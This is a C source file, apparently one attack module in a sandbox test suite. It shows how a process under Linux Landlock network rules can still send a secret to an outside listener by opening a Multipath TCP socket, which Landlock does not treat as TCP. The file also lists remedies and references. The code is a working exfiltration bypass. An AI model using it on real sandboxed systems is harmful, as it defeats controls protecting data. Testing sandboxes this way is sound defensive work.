// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach the attacker's host, though a rule set allows no TCP port.
 * Means: socket(2) with the protocol IPPROTO_MPTCP. For Landlock that is not TCP, and free; to a
 *        host that speaks plain TCP it falls back to plain TCP. Go's listeners are such by default.
 */
#include "attacks/attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

static enum claim run(const struct brief *b)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((in_port_t)b->sink),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd;

	attempting(b);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, IPPROTO_MPTCP);
	if (fd < 0)
		return denied("socket IPPROTO_MPTCP");
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)))
		return denied("connect");
	return write(fd, b->secret, strlen(b->secret)) < 0 ? denied("write") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's host",
	.means = "Multipath TCP, which Landlock does not take for TCP",
	.oracle = "sink",
	.attack_id = "T1095, CWE-693",
	.remedy = "seccomp without socket(2); a network namespace",
	.refs = (const char *const[]){ "landlock(7)", "Linux 5.6, MPTCP",
				       "Linux 6.14, which leaves MPTCP out of the rights on TCP",
				       NULL },
	.run = run,
};
